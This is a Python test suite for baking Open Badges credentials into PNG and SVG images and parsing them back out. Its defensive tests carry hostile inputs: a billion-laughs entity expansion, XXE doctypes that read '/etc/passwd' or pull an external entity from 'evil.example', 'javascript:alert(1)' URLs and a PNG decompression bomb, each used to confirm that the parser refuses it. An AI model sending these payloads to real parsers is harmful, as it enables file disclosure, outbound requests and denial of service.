"""kernel.baking: a credential goes into a picture and comes out as it was; hostile pictures are refused."""

import io
import json
import struct
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from kernel.baking import MAX_ART_BYTES, BakedCredential, CredentialForm, bake, parse_baked, parse_file, parse_text
from kernel.errors import CredentialError, MalformedError
from kernel.strict_json import MAX_BYTES
from tests.support.effort import not_hanging

JSON = '{"@context": ["https://www.w3.org/ns/credentials/v2"], "name": "Problemen oplossen é 🏅 ]]> &amp; <b>\\u0001"}'
JWS = "eyJhbGciOiJFUzI1NiJ9.eyJpc3MiOiJkaWQ6d2ViOnguZXhhbXBsZSJ9.c2ln-_A"
SIGNATURE = b"\x89PNG\r\n\x1a\n"
NAMESPACE = b'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"'


def chunk(kind: bytes, data: bytes = b"") -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def text_chunk(text: str, keyword: str = "openbadgecredential", header: bytes = b"\0\0\0\0") -> bytes:
    return chunk(b"iTXt", keyword.encode() + b"\0" + header + text.encode())


def create_png(size: tuple[int, int] = (24, 16)) -> bytes:
    target = io.BytesIO()
    Image.effect_noise(size, 90).convert("RGBA").save(target, "PNG")
    return target.getvalue()


PNG = create_png()
HEADER, END = PNG[:33], chunk(b"IEND")
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- a > b -->\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" viewBox=\'0 0 9 9\' data-x="a>b">'
    b'<path d="M0 0h9v9z" fill="#0b5f63"/>\r\n</svg>\n'
)


def pixels(picture: bytes) -> tuple[Any, ...]:
    with Image.open(io.BytesIO(picture)) as image:
        return image.size, image.mode, image.tobytes()


def svg(*children: str, root: str = "", namespace: str = "https://purl.imsglobal.org/ob/v3p0") -> bytes:
    names = f'xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{namespace}"'
    return f"<svg {names} {root}>{''.join(children)}</svg>".encode()


# Into the picture and out of it


@pytest.mark.parametrize("credential", [JSON, JWS])
@pytest.mark.parametrize("art", [PNG, SVG], ids=["png", "svg"])
def test_B30_B31_what_is_baked_comes_out_as_it_was(art: bytes, credential: str) -> None:
    form = CredentialForm.JWS if credential == JWS else CredentialForm.JSON
    assert parse_baked(bake(art, credential)) == BakedCredential(credential, form, "3.0")
    assert parse_baked(bake(art, f" \n{credential}\n")).raw == credential


@pytest.mark.parametrize("art", [PNG, SVG], ids=["png", "svg"])
def test_B30_B31_a_second_credential_takes_the_place_of_the_first(art: bytes) -> None:
    once = bake(art, JSON)
    assert bake(once, JSON) == once
    assert bake(bake(art, JWS), JSON) == once


def test_B30_pixels_are_unchanged() -> None:
    assert pixels(bake(PNG, JSON)) == pixels(PNG)


def test_B30_the_chunk_is_uncompressed_without_language_and_right_before_the_end() -> None:
    expected = chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0" + JSON.encode())
    assert bake(PNG, JSON) == PNG.removesuffix(END) + expected + END


def test_B31_the_element_stands_right_after_the_opening_tag_and_nothing_else_changes() -> None:
    opening = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox=\'0 0 9 9\' data-x="a>b"'
    element = f'<openbadges:credential verify="{JWS}"></openbadges:credential>'.encode()
    assert bake(SVG, JWS) == SVG.replace(opening + b">", opening + b" " + NAMESPACE + b">" + element)


def test_B31_json_stands_in_a_cdata_section_whose_end_is_escaped() -> None:
    assert b"<openbadges:credential><![CDATA[{" in bake(SVG, JSON)
    assert b"oplossen \xc3\xa9 \xf0\x9f\x8f\x85 ]]]]><![CDATA[> &amp; <b>" in bake(SVG, JSON)


@pytest.mark.parametrize(
    "art",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"/>',
        b'<svg xmlns="http://www.w3.org/2000/svg" />',
        b'\xef\xbb\xbf<svg xmlns="http://www.w3.org/2000/svg"></svg>',
        b'<d:svg\nxmlns:d="http://www.w3.org/2000/svg"/>',
        svg("<path/>"),
        svg(f'<openbadges:credential verify="{JWS}"/>', f'<g><openbadges:credential verify="{JWS}"/></g>'),
        svg("<openbadges:credential><![CDATA[{}]]></openbadges:credential >"),
    ],
)
def test_B31_every_well_formed_drawing_can_be_baked_into(art: bytes) -> None:
    baked = bake(art, JSON)
    assert parse_baked(baked).raw == JSON
    assert baked.count(b"credential><![CDATA[") == 1
    assert baked.count(NAMESPACE) == 1


def test_B31_a_prefix_that_means_something_else_is_not_redefined() -> None:
    with pytest.raises(MalformedError):
        bake(svg(namespace="http://openbadges.org"), JSON)


def test_B31_a_text_that_xml_would_change_is_refused() -> None:
    with pytest.raises(MalformedError):
        bake(SVG, '{"a":\r\n1}')
    with pytest.raises(MalformedError):
        bake(SVG, '{"a": "\uffff"}')


@pytest.mark.parametrize(
    "credential",
    ["", "text", "[]", "{", '{"a": 1, "a": 2}', "a.b", "a.b.c~", "https://x.example/badge.json", f"{JWS}~", "a.b.c\0"],
)
@pytest.mark.parametrize("art", [PNG, SVG], ids=["png", "svg"])
def test_B30_B31_only_json_and_compact_jws_are_baked(art: bytes, credential: str) -> None:
    with pytest.raises(MalformedError):
        bake(art, credential)


def test_B32_art_that_is_too_large_is_not_baked_into() -> None:
    filler = chunk(b"teSt", bytes(MAX_ART_BYTES - len(PNG) - 12))
    assert parse_baked(bake(PNG.removesuffix(END) + filler + END, JWS)).raw == JWS
    with pytest.raises(MalformedError):
        bake(PNG.removesuffix(END) + chunk(b"teSt", bytes(MAX_ART_BYTES)) + END, JWS)


# Reading what others baked


def test_B30_language_and_translated_keyword_mean_nothing() -> None:
    picture = HEADER + text_chunk(JWS, header=b"\0\0nl\0sleutel\0") + END
    assert parse_baked(picture).raw == JWS


def test_B30_what_follows_the_end_is_no_part_of_the_picture() -> None:
    assert parse_baked(bake(PNG, JWS) + text_chunk(JSON)).raw == JWS
    assert bake(PNG + b"rest", JWS) == bake(PNG, JWS)


def test_B31_the_example_of_the_specification_has_white_space_around_it() -> None:
    picture = svg("\n  <openbadges:credential>\n    <![CDATA[\n  {}\n  ]]>\n  </openbadges:credential>\n")
    assert parse_baked(picture).raw == "{}"


@pytest.mark.parametrize(
    ("picture", "raw", "form"),
    [
        (HEADER + text_chunk(JWS, "openbadges") + END, JWS, "jws"),
        (HEADER + text_chunk('{"uid": "1"}', "openbadges") + END, '{"uid": "1"}', "json"),
        (HEADER + chunk(b"tEXt", b"openbadges\0https://x.example/1") + END, "https://x.example/1", "url"),
        (svg(f'<openbadges:assertion verify="{JWS}"/>', namespace="http://openbadges.org"), JWS, "jws"),
        (svg('<openbadges:assertion verify="https://x.example/1"/>', namespace="http://openbadges.org"), None, "url"),
        (
            svg(
                '<openbadges:assertion verify="https://x.example/1"><![CDATA[ {"uid": "1"} ]]></openbadges:assertion>',
                namespace="http://openbadges.org",
            ),
            '{"uid": "1"}',
            "json",
        ),
    ],
)
def test_B22_older_badges_are_read_and_say_so(picture: bytes, raw: str | None, form: str) -> None:
    assert parse_baked(picture) == BakedCredential(raw or "https://x.example/1", CredentialForm(form), "2.0")


def test_B22_where_both_are_there_the_newer_one_counts() -> None:
    older = HEADER + text_chunk('{"uid": "1"}', "openbadges") + END
    assert parse_baked(older.removesuffix(END) + text_chunk(JWS) + END).version == "3.0"
    assert parse_baked(bake(older, JWS)).raw == JWS
    assert b'"uid"' not in bake(older, JWS)
    both = svg(
        f'<openbadges:credential verify="{JWS}"/>', '<o:assertion xmlns:o="http://openbadges.org" verify="a.b.c"/>'
    )
    assert parse_baked(both).raw == JWS
    assert b"a.b.c" not in bake(both, JSON)


@pytest.mark.parametrize(
    "picture",
    [
        HEADER + END,
        HEADER + text_chunk(JWS) * 2 + END,
        HEADER + text_chunk(JWS, "openbadges") * 2 + END,
        HEADER + text_chunk(JWS, "openbadges") + chunk(b"tEXt", b"openbadges\0https://x.example/1") + END,
        HEADER + text_chunk(JWS, "OpenBadgeCredential") + END,
        HEADER + text_chunk(JWS, "openbadgecredential2") + END,
        HEADER + chunk(b"tEXt", b"openbadgecredential\0" + JWS.encode()) + END,
        HEADER + chunk(b"zTXt", b"openbadgecredential\0\0" + zlib.compress(JWS.encode())) + END,
        HEADER + text_chunk(JWS, header=b"\1\0\0\0") + END,
        HEADER + text_chunk(JWS, header=b"\0\1\0\0") + END,
        HEADER + text_chunk("", header=b"\0\0") + END,
        HEADER + text_chunk("", header=b"") + END,
        HEADER + chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0\xff\xfe") + END,
        HEADER + text_chunk("https://x.example/1") + END,
        HEADER + chunk(b"tEXt", b"openbadges\0javascript:alert(1)") + END,
        HEADER + chunk(b"tEXt", b"openbadges\0") + END,
    ],
)
def test_B30_png_without_exactly_one_readable_credential_is_refused(picture: bytes) -> None:
    with pytest.raises(MalformedError):
        parse_baked(picture)


BAKED = HEADER + text_chunk(JWS) + END


@pytest.mark.parametrize(
    "picture",
    [
        b"",
        SIGNATURE,
        BAKED[:-1],
        BAKED.removesuffix(END),
        SIGNATURE + BAKED[33:],
        SIGNATURE + chunk(b"IHDR", bytes(12)) + BAKED[33:],
        HEADER + HEADER[8:] + BAKED[33:],
        BAKED[:60] + b"X" + BAKED[61:],
        BAKED[:-1] + b"\0",
        HEADER + b"\xff\xff\xff\xff" + BAKED[37:],
        HEADER + b"\x7f\xff\xff\xff" + BAKED[37:],
        HEADER + chunk(b"teSt") * 10_000 + text_chunk(JWS) + END,
        HEADER + chunk(b"teSt", bytes(4 * 1024 * 1024)) + text_chunk(JWS) + END,
    ],
    ids=range(13),
)
def test_A43_broken_png_is_refused(picture: bytes) -> None:
    with pytest.raises(MalformedError):
        parse_baked(picture)


def test_A43_a_png_bomb_is_never_inflated() -> None:
    """Pixels of 60,000 by 60,000 and a compressed text of a gigabyte: neither is looked into."""
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    bomb = zlib.compress(bytes(1024 * 1024), 9)
    picture = SIGNATURE + header + chunk(b"zTXt", b"x\0\0" + bomb) + chunk(b"IDAT", bomb) + text_chunk(JWS) + END
    assert parse_baked(picture).raw == JWS


LAUGHS = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    "picture",
    [
        svg(),
        svg(f'<openbadges:credential verify="{JWS}"/>' * 2),
        svg(f'<openbadges:credential verify="{JWS}"/>', f'<g><openbadges:credential verify="{JWS}"/></g>'),
        svg(f'<openbadges:credential verify="{JWS}">{{}}</openbadges:credential>'),
        svg(f'<openbadges:credential verify="{JWS}"/>', namespace="http://openbadges.org"),
        svg(f'<openbadges:credential openbadges:verify="{JWS}"/>'),
        svg(f"<openbadges:credential><g>{JWS}</g></openbadges:credential>"),
        svg('<openbadges:credential verify="https://x.example/1"/>'),
        svg("<openbadges:credential/>"),
        svg(f'<g><credential verify="{JWS}"/></g>'),
        svg('<openbadges:assertion verify="javascript:alert(1)"/>', namespace="http://openbadges.org"),
        f'<g xmlns="http://www.w3.org/2000/svg"><openbadges:credential verify="{JWS}"/></g>'.encode(),
        svg(f'<openbadges:credential verify="{JWS}"/>').replace(b"http://www.w3.org/2000/svg", b"http://x.example"),
        b"<html/>",
        b"no picture at all",
        svg(f'<openbadges:credential verify="{JWS}"/>')[:-3],
        svg(f'<openbadges:credential verify="{JWS}"/>') + b"<svg/>",
        svg(f'<openbadges:credential verify="{JWS}"/>', "\x01"),
        svg(f'<openbadges:credential verify="{JWS}"/>', "&undefined;"),
        svg(f'<openbadges:credential verify="{JWS}"/>', "<g>" * 300 + "</g>" * 300),
        svg(f'<openbadges:credential verify="{JWS}"/>', f"<!--{'x' * 4_000_000}-->"),
        svg(f'<openbadges:credential verify="{JWS}"/>').decode().encode("utf-16"),
        b'<?xml version="1.0" encoding="iso-8859-1"?>' + svg('<openbadges:credential verify="a.b.c"/>', "\u00e9")[:-7],
    ],
)
def test_B31_svg_without_exactly_one_readable_credential_is_refused(picture: bytes) -> None:
    with pytest.raises(MalformedError):
        parse_baked(picture)


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE svg>",
        LAUGHS,
        '<!DOCTYPE svg SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
        '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>',
    ],
)
def test_A43_svg_with_a_document_type_is_refused(doctype: str) -> None:
    picture = doctype.encode() + svg(f'<openbadges:credential verify="{JWS}"/>', "&b;" if "b " in doctype else "")
    for work in (lambda: parse_baked(picture), lambda: bake(picture, JWS)):
        with pytest.raises(MalformedError):
            work()


def test_A43_no_hostile_picture_takes_for_ever() -> None:
    hostile = [
        svg("<g ", *(f"a{number}='' " for number in range(50_000)), "/>"),
        svg("<g>" * 500_000),
        svg("<g/>" * 500_000),
        b"<svg " + b'"' * 2_000_000,
        SIGNATURE + chunk(b"IHDR", bytes(13)) + chunk(b"iTXt") * 9_000,
    ]
    for picture in hostile:
        with not_hanging(), pytest.raises(MalformedError):
            parse_baked(picture)


# Files


@pytest.mark.parametrize(
    ("content", "form", "extension", "media_type"),
    [
        (JSON.encode(), CredentialForm.JSON, ".json", "application/vc+ld+json"),
        (b"\xef\xbb\xbf" + JSON.encode(), CredentialForm.JSON, ".json", "application/vc+ld+json"),
        (JWS.encode() + b"\n", CredentialForm.JWS, ".jws", "text/plain"),
    ],
)
def test_B33_a_file_is_what_its_content_says(
    content: bytes, form: CredentialForm, extension: str, media_type: str
) -> None:
    credential = parse_file(content)
    assert (credential.form, credential.version) == (form, "3.0")
    assert (credential.form.file_extension, credential.form.media_type) == (extension, media_type)


@pytest.mark.parametrize(
    "content",
    [b"", b"\xff", JSON.encode("utf-16"), b"a" * (MAX_BYTES + 1), b"PK\x03\x04", b"https://x.example/1"],
    ids=range(6),
)
def test_B33_a_file_that_is_none_is_refused(content: bytes) -> None:
    with pytest.raises(MalformedError):
        parse_file(content)
    with pytest.raises(MalformedError):
        parse_text("a." + "b" * MAX_BYTES + ".c")


def test_the_credential_of_a_holder_stays_out_of_a_representation_for_logs() -> None:
    assert "Problemen" not in repr(parse_baked(bake(PNG, JSON)))


# Anything at all

chunks = st.builds(
    chunk,
    st.sampled_from([b"iTXt", b"tEXt", b"IDAT", b"IEND", b"IHDR"]),
    st.binary(max_size=20) | st.just(b"openbadgecredential\0\0\0\0\0" + JWS.encode()),
)
drawings = st.lists(
    st.sampled_from(["<g>", "</g>", "<g/>", "<openbadges:credential", " verify='a.b.c'", ">", "/>"])
    | st.sampled_from(["</openbadges:credential>", "<![CDATA[", "]]>", "a.b.c", "{}", "<!--", "-->", "&amp;"])
    | st.sampled_from(["<?x", "?>", "'", " ", "é"]),
    max_size=12,
).map(lambda parts: svg(*parts))


@given(
    st.binary(max_size=80)
    | st.binary(max_size=80).map(lambda data: SIGNATURE + data)
    | st.lists(chunks, max_size=5).map(lambda parts: HEADER + b"".join(parts) + END)
    | drawings
)
def test_A43_no_picture_makes_the_reader_raise_anything_but_a_credential_error(picture: bytes) -> None:
    def attempt(work: Callable[[], Any]) -> Any:
        try:
            return work()
        except CredentialError:
            return None

    read, baked = attempt(lambda: parse_baked(picture)), attempt(lambda: bake(picture, JSON))
    assert read is None or isinstance(read.raw, str)
    assert baked is None or parse_baked(baked).raw == JSON


@given(st.dictionaries(st.text(max_size=9), st.text() | st.integers() | st.lists(st.text(max_size=5)), max_size=5))
def test_B30_B31_any_json_comes_out_as_it_went_in(members: dict[str, Any]) -> None:
    try:
        raw = json.dumps(members)
        parse_text(raw)
    except CredentialError:
        return
    assert parse_baked(bake(PNG, raw)).raw == raw
    assert parse_baked(bake(SVG, raw)).raw == raw
